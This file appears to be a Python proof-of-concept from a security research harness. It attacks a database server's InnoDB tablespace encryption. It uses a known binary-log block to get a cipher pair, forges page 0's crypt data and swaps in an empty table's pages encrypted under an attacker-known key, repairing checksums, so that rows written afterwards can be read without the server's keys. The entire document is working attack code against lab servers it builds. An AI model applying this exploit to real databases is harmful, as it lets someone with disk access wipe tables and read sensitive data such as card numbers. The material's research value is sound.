"""Has the server encrypt a table's pages under a key that the attacker knows, without any of the server's keys.

As with the redo log: a known block of a binary log gives a pair, X and what the data key makes of X, and the key of a
tablespace's pages is what the data key makes of 16 bytes on its page 0. Pages that are there already cannot be read with
the new key. So whoever can write to the disk of a server that is stopped also puts the pages of an empty table there,
taken from a server of his own and encrypted under the known key: the table has lost its rows, if it had any, and what is
written into it from then on can be read.
"""

import secrets
import struct

from aes import Aes, blocks, cbc, ctr, xor
from chosen_redo_key import known_event, pair_of_cbc, pair_of_ctr
from client import StatementFailed
from redo_log import crc32c
from server import Failure

PAGE = 16384
FIRST, LAST = 26, PAGE - 4
LSN, SPACE, LOW_LSN = slice(16, 24), slice(34, 38), slice(PAGE - 8, PAGE - 4)
# On page 0 behind the extent descriptors: six bytes that say what follows, the scheme, a length, and the 16 bytes.
CRYPT_DATA, MAGIC = 10_428, b"s\x0e\x0cREt"
MESSAGE = slice(CRYPT_DATA + 8, CRYPT_DATA + 24)
REFUSED = r"InnoDB: .*shop/cards\.ibd|Table .*cards.* is corrupted|InnoDB: .*tablespace shop/cards"
TABLE = "CREATE TABLE shop.cards (id INT PRIMARY KEY, card CHAR(40)) ENGINE=InnoDB"


def encrypt_cbc(key, iv, data):
    """aes_cbc without padding, encrypted: what is left behind the whole blocks is masked with the encrypted IV."""
    aes, before, out = Aes(key), iv, []
    for block in blocks(data):
        before = aes.encrypt(xor(block, before))
        out.append(before)
    return b"".join(out) + xor(data[16 * len(out):], aes.encrypt(iv))


# How a pair is made, and what encrypts and decrypts with a key that is known.
WAYS = ((pair_of_ctr, ctr, ctr), (pair_of_cbc, encrypt_cbc, cbc))


def pages(content):
    """Its pages, each to be changed."""
    return [bytearray(content[at:at + PAGE]) for at in range(0, len(content), PAGE)]


def iv_of(page):
    """Tablespace, number and LSN, the lowest byte first. The number stands on each page, the tablespace on page 0 alone."""
    return lambda space: struct.pack("<IIQ", space, int.from_bytes(page[4:8], "big"), int.from_bytes(page[LSN], "big"))


def seal(page):
    """Mends the checksum of a page as it lies on the disk."""
    page[LAST:] = struct.pack(">I", crc32c(page[:LAST]))


def forged(theirs, mine, message, encrypt):
    """The file of the table, with an empty table's pages under another key."""
    space = int.from_bytes(theirs[0][SPACE], "big")
    if theirs[0][CRYPT_DATA:CRYPT_DATA + 6] != MAGIC:
        raise Failure("the table is not encrypted")
    theirs[0][MESSAGE] = message
    for page, plain in zip(theirs[1:], mine[1:]):
        # The first 26 bytes, in clear, stay: the key version, the page's number, its neighbours, its LSN and its type.
        if any(page[:4]):
            plain[SPACE], plain[LOW_LSN] = theirs[0][SPACE], page[20:24]
            page[FIRST:LAST] = encrypt(iv_of(page)(space), bytes(plain[FIRST:LAST]))
    for page in theirs:
        if any(page):
            seal(page)
    return b"".join(theirs)


def attack(site, store):
    """A row of a table, read without a key; None if there is no way to it."""
    own = site.bare(site.keystore("attackers"), "attackers_own")
    own.start()
    own.sql("CREATE DATABASE shop", f"{TABLE} ENCRYPTED=NO")
    own.stop()
    host = site.bare(store)
    host.start()
    host.sql("CREATE DATABASE shop", TABLE)
    host.stop()
    file = host.data / "shop/cards.ibd"
    before, mine = file.read_bytes(), (own.data / "shop/cards.ibd").read_bytes()
    event = known_event(host)
    for pair, encrypt, decrypt in WAYS:
        block, key = pair(event)
        file.write_bytes(forged(pages(before), pages(mine), block, lambda iv, plain: encrypt(key, iv, plain)))
        secret = f"card {secrets.token_hex(12)}"
        host.start()
        try:
            host.sql(f"INSERT INTO shop.cards VALUES (1, '{secret}')")
        except StatementFailed:
            # What was in the way was the cipher: with its own file the table is there.
            host.has_said(REFUSED)
            host.stop()
            file.write_bytes(before)
            host.start()
            host.sql("SELECT * FROM shop.cards")
            host.stop()
            continue
        host.stop()
        now = pages(file.read_bytes())
        if now[0][MESSAGE] != block:
            raise Failure("page 0 has another message than the one that was put there")
        space = int.from_bytes(now[0][SPACE], "big")
        read = b"".join(decrypt(key, iv_of(page)(space), bytes(page[FIRST:LAST])) for page in now[1:] if any(page[:4]))
        if secret.encode() not in read:
            raise Failure("the server took the pages, and the key is not the one that was chosen")
        return f"the table's key is of the attacker's choice, and this was read in it: {secret}"
    return None
